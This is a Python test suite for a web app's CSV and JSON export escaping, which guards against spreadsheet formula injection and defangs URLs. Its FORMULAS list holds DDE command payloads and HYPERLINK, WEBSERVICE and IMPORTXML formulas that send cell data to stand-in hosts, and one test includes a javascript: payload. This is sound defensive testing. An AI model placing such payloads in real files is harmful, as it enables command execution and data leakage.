from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zhenwang.web.exports import BOM, Table, csv_text, download, json_text, original_cell, safe_cell
from zhenwang.web.visible import marked

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"领取\")", "=WEBSERVICE(\"http://e.example\")",
    "=IMPORTXML(CONCAT(\"//e.example?\",A1),\"//a\")", "=2+5+cmd|'/C calc'!A0", "==1", "=''", "=\"a\"", "=A1:B2",
    "+1+1", "+cmd|'/C calc'!A0", "++1", "-1+1", "-2+3+cmd|'/C calc'!A0", "--1", "-", "+", "=", "@",
    "@SUM(1+1)*cmd|'/C calc'!A0", "@A1", "\t=1+1", "\t", "\r=1+1", "\r", "\r\n=1+1", "\n=1+1", "\x00=1+1", "\x00",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "＝cmd|'/C calc'!A0", " =1+1", "\u3000=1+1", "\u00a0=1+1", "'=1+1", "''=1",
    "'＝1", "\ufeff=1+1", "\u202e=1+1", "\u200b=1+1", "\x1b=1", "甲;=1+1", "甲;\n+1", "x\n=1+1", '"=1+1', '","=1+1',
    "DDE;@SUM(1)", "\ud800=1",
)  # fmt: skip
STARTS = "=+-@＝＋－＠\t\r\x00"


def _parsed(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("cell", FORMULAS)
def test_W5_no_cell_begins_a_formula_and_each_can_be_read_back(cell: str) -> None:
    ((_, _), (first, last)) = _parsed(csv_text(("甲", "乙"), [(cell, "end")]))
    assert last == "end"
    assert first.lstrip("\n \u3000\u00a0")[:1] not in tuple(STARTS)
    expected = marked(cell).replace("\t", "⟦U+0009⟧").replace("\r", "⟦U+000D⟧")
    assert original_cell(first).replace("[.]", ".").replace("hxxp[:]", "http:") == expected


def test_W5_there_are_at_least_51_cells_and_they_differ() -> None:
    assert len(set(FORMULAS)) >= 51


@pytest.mark.parametrize("cell", FORMULAS)
def test_W5_nor_when_a_spreadsheet_splits_at_semicolons(cell: str) -> None:
    for row in _parsed(csv_text(("甲", "乙"), [("a", cell)]), ";"):
        for part in row:
            assert part.strip()[:1] not in tuple(STARTS)


@given(st.text(alphabet=st.one_of(st.sampled_from("=+-@'＝＋－＠;\n\t\r 甲a.:/⟦U"), st.characters())))
def test_W5_every_text_is_escaped_reversibly(text: str) -> None:
    cell = safe_cell(text)
    assert safe_cell(original_cell(cell)) == cell
    assert _parsed(csv_text(("a", "b"), [(text, "end")]))[1] == [cell, "end"]
    assert cell.strip()[:1] not in tuple(STARTS)


def test_W5_a_cell_of_nothing_but_line_ends_takes_no_longer_than_another() -> None:
    assert safe_cell("\n" * 1_000_000) == "\n" * 32_000


def test_numbers_and_days_stay_what_they_are() -> None:
    at = datetime(2026, 11, 22, 16, 30, tzinfo=UTC)
    text = csv_text(("n", "x", "d", "t", "none"), [(-5, 1.5, date(2026, 11, 22), at, None)])
    assert _parsed(text)[1] == ["-5", "1.5", "2026-11-22", "2026-11-23T00:30:00+08:00", ""]


def test_the_file_is_rfc_4180_with_a_mark_for_spreadsheets() -> None:
    assert csv_text(("a", "b"), [("x", 'y"z')]) == '\ufeff"a","b"\r\n"x","y""z"\r\n'
    assert not csv_text(("a",), [], bom=False).startswith(BOM)


def test_W3_addresses_and_suspects_cannot_be_clicked() -> None:
    text = csv_text(
        ("host", "url", "note"),
        [("evil.example", "https://evil.example/a.b", "见 http://evil.example/x 和 javascript:alert(1)")],
        suspects=("host", "url"),
    )
    assert _parsed(text)[1] == [
        "evil[.]example", "hxxps[:]//evil[.]example/a.b", "见 hxxp[:]//evil[.]example/x 和 javascript[:]alert(1)",
    ]  # fmt: skip


def test_json_holds_the_same_table_exactly_and_shows_what_is_not_seen() -> None:
    sent = "=1\u202egov\x00\ud800\U000e0100"
    text = json_text(("host", "甲"), [("evil.example", sent)], suspects=("host",), about={"query": "x"})
    assert "\\u202e" in text
    assert "\u202e" not in text
    assert "甲" in text
    text.encode("utf-8")
    assert json.loads(text) == {"about": {"query": "x"}, "columns": ["host", "甲"], "rows": [["evil[.]example", sent]]}


def _a_table(query: str = "2026", cell: str = "甲") -> Table:
    at = datetime(2026, 11, 22, 1, 0, tzinfo=UTC)
    return Table("cases", ("name", "count"), ((cell, 3),), {"year": query}, at)


def test_a_download_says_what_was_asked_when_and_its_digest() -> None:
    table = _a_table()
    answer = download(table, "csv")
    rows = _parsed(bytes(answer.body).decode())
    assert rows[1] == ["甲", "3"]
    assert rows[3:] == [
        ["查询 query", "year=2026"], ["生成于 made at", "2026-11-22T09:00:00+08:00"], ["SHA-256", table.digest],
    ]  # fmt: skip
    assert f"cases-20261122-{table.digest[:12]}.csv" in answer.headers["content-disposition"]
    told = json.loads(bytes(download(table, "json").body))["about"]
    assert told == {"query": {"year": "2026"}, "made_at": "2026-11-22T09:00:00+08:00", "sha256": table.digest}


def test_the_digest_covers_query_and_content_and_not_the_moment() -> None:
    later = Table("cases", ("name", "count"), (("甲", 3),), {"year": "2026"}, datetime(2027, 1, 1, tzinfo=UTC))
    assert later.digest == _a_table().digest
    assert len({_a_table().digest, _a_table(query="2025").digest, _a_table(cell="乙").digest}) == 3


def test_a_name_cannot_break_out_of_its_header() -> None:
    table = Table('a"\r\nX: y', ("a", "b"), (), {}, datetime(2026, 11, 22, tzinfo=UTC))
    assert "\r" not in download(table, "csv").headers["content-disposition"]
